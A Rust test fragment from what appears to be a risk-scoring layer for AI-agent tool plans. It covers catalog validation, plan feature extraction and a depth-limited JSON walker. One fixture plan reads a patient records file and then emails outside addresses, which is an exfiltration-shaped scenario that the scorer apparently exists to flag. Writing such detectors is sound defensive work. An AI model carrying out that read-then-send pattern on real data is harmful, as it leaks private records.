            r#"{"tool": "send_email", "args": {"to": "x@y.example"}, "estimated_cost": 1.5}"#,
        ));
        assert!(!s.irreversible, "catalog overrides lexicon");
        assert_eq!(s.estimated_cost, 1.5, "given value overrides catalog");
        assert_eq!(s.endpoints, ["smtp.corp.example", "x@y.example"]);
        let s = a.annotate(&step(
            r#"{"tool": "send_email", "args": {}, "endpoints": ["A.example"], "irreversible": true}"#,
        ));
        assert!(s.irreversible);
        assert_eq!(s.endpoints, ["a.example"]);
    }

    #[test]
    fn catalog_is_strictly_validated() {
        let e = ToolCatalog::from_json(r#"{"tools": {"x": {"irreversable": true}}}"#)
            .unwrap_err()
            .to_string();
        assert!(
            e.contains("tools.x") && e.contains("unknown field `irreversable`"),
            "{e}"
        );
        let e = ToolCatalog::from_json(r#"{"tools": {"x": {"sensitive": "yes"}}}"#)
            .unwrap_err()
            .to_string();
        assert!(
            e.contains("tools.x.sensitive") && e.contains("invalid type"),
            "{e}"
        );
        let e = ToolCatalog::from_json(r#"{"tools": {"x": {"estimated_cost": -2}}}"#)
            .unwrap_err()
            .to_string();
        assert!(
            e.contains("tools.x.estimated_cost") && e.contains("-2"),
            "{e}"
        );
        let e = ToolCatalog::from_json(r#"{"tools": {"x": {"action": "fly"}}}"#)
            .unwrap_err()
            .to_string();
        assert!(e.contains("tools.x.action") && e.contains("fly"), "{e}");
        let e = ToolCatalog::from_json(r#"[1,2]"#).unwrap_err().to_string();
        assert!(e.contains("invalid type"), "{e}");
    }

    #[test]
    fn features_follow_nexus_order_and_definitions() {
        let plan: Plan = from_json_str(
            r#"{"budget": 0.1, "steps": [
              {"tool": "read_file", "args": {"path": "/srv/patients.csv"}},
              {"tool": "send_email", "args": {"to": "a@x.example", "cc": "b@y.example"}},
              {"tool": "send_email", "args": {"to": "a@x.example"}},
              {"tool": "curl", "args": {"url": "http://localhost:8080/health"}}]}"#,
        )
        .unwrap();
        let a = ToolAnnotator::default();
        let x = plan_features(&plan, &a.annotate_plan(&plan));
        assert_eq!(x[0], 4.0);
        assert_eq!(x[1], 1.0);
        assert_eq!(x[2], 1.0);
        assert_eq!(x[3], 1.0);
        assert_eq!(x[4], 3.0);
        assert_eq!(x[5], 3.0); // files:read, email:send, web:read
        assert!((x[6] - 0.12).abs() < 1e-9);
        assert!((x[7] - 1.2).abs() < 1e-9);
        assert_eq!(x[8], 2.0, "localhost is not external");
        assert_eq!(plan_schema().features.len(), 9);
        assert_eq!(plan_schema().fingerprint().len(), 16);

        let empty: Plan = from_json_str(r#"{"steps": []}"#).unwrap();
        assert_eq!(plan_features(&empty, &[]), [0.0; 9]);
        let zero_budget: Plan =
            from_json_str(r#"{"budget": 0, "steps": [{"tool": "pay", "args": {"amount": 5}}]}"#)
                .unwrap();
        let x = plan_features(&zero_budget, &a.annotate_plan(&zero_budget));
        assert_eq!(x[7], 1e6);
    }
}

/// Arguments nested deeper than this are not looked into (serde_json itself stops at 128; a
/// caller building `Value`s by hand could go deeper and overflow the stack).
pub const MAX_ARG_DEPTH: usize = 64;

/// Calls `f` on every string inside `v` — values and object keys, depth-first in document
/// order — down to [`MAX_ARG_DEPTH`] levels.
pub fn for_each_string_in(v: &Value, f: &mut impl FnMut(&str)) {
    fn walk(v: &Value, depth: usize, f: &mut impl FnMut(&str)) {
        if depth > MAX_ARG_DEPTH {
            return;
        }
        match v {
            Value::String(s) => f(s),
            Value::Array(items) => items.iter().for_each(|i| walk(i, depth + 1, f)),
            Value::Object(map) => {
                for (k, v) in map {
                    f(k);
                    walk(v, depth + 1, f);
                }
            }
            _ => {}
        }
    }
    walk(v, 0, f);
}

#[cfg(test)]
mod walk_tests {
    use super::*;

    #[test]
    fn strings_are_visited_in_order_down_to_the_depth_limit() {
        let v = serde_json::json!({"a": ["x", {"b": "y"}], "n": 3});
        let mut seen = Vec::new();
        for_each_string_in(&v, &mut |s| seen.push(s.to_owned()));
        assert_eq!(seen, ["a", "x", "b", "y", "n"]);
        let mut deep = Value::String("bottom".into());
        for _ in 0..10_000 {
            deep = Value::Array(vec![deep]);
        }
        let mut count = 0;
        for_each_string_in(&deep, &mut |_| count += 1);
        assert_eq!(
            count, 0,
            "nothing below the depth limit is read, and nothing overflows"
        );
        // Dropping a 10,000-deep Value recursively is itself a stack risk; unwind it iteratively.
        while let Value::Array(mut items) = deep {
            deep = items.pop().unwrap_or(Value::Null);
        }
    }
}
